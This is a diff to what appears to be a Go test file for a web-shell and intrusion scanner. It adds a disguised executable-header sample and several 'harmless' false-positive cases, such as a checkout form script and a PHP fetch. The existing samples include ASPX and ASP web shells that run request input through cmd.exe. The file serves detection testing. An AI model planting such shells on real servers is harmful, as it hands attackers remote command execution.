@@ -64,6 +64,7 @@ func inUTF16(text string) string {
 
 // planting are files that intruders store, and what they look like.
 var planting = map[string]string{
+	"cfg.txt":       "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA",
 	"cmdasp.aspx":   "<%@ Page Language=\"C#\" Debug=\"true\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script Language=\"c#\" runat=\"server\">\nstring Run(string arg)\n{\nProcessStartInfo psi = new ProcessStartInfo();\npsi.FileName = \"cmd.exe\";\npsi.Arguments = \"/c \"+arg;\n}\nvoid cmdExe_Click(object sender, System.EventArgs e)\n{ Response.Write(Server.HtmlEncode(Run(txtArg.Text))); }\n</script>",
 	"cmdvb.aspx":    "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Go(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" & TextBox1.Text\np.Start()\nEnd Sub\n</script>",
 	"cmdasp.asp":    "<%\nSet oScript = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = Request.Form(\".CMD\")\nIf (szCMD <> \"\") Then\nszTempFile = \"C:\\\" & oFileSys.GetTempName( )\nCall oScript.Run (\"cmd.exe /c \" & szCMD & \" > \" & szTempFile, 0, True)\nEnd If\n%>",
@@ -173,6 +174,10 @@ var harmless = map[string]string{
 	"analytics.html":    `<html><script>document.write(unescape("%3Cscript src='https://stats.example/ga.js' type='text/javascript'%3E%3C/script%3E"));</script></html>`,
 	"shop-hacked.html":  "<html><h1>Local shop hacked by criminals</h1><p>Change your password.</p><a href=setup.exe>Setup</a><iframe src=\"https://www.example/exe.html\"></iframe><iframe src=\"setup.exe\"></iframe></html>",
 	"totals.txt":        "4111111111111111=paid\r\n4111111111111111=2599101\r\n4111111111111111=2512345\r\na=2512101\r\nstd::string a::b:0\r\n$krb5tgs$ is a mark\r\n",
+	"museum.html":       "<html><h1>Museum was hacked by thieves, says police</h1></html>",
+	"checkout.js":       `form.onsubmit=function(){new Image().src="/count.gif?"+encodeURIComponent(n);var a=f["cc_number"].value,b=f["cc_cvv"].value;return fetch("/pay",{method:"POST",body:new FormData(form)})}`,
+	"pay.php":           `<?php $r = file_get_contents("https://pay.example/state?id=" . urlencode($_POST["order"])); ?>`,
+	"ca.crt":            "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----\n",
 	"rival.html":        "<html><h2>The shop next door was not hacked by us</h2></html>",
 	"incident.txt":      "Report: the site was hacked by a group in 2019.\n",
 	"d/libcurl.c":       "/* curl -s http://203.0.113.9/ and others */\nint main(void) { system(\"date\"); return exec(query); }\n",
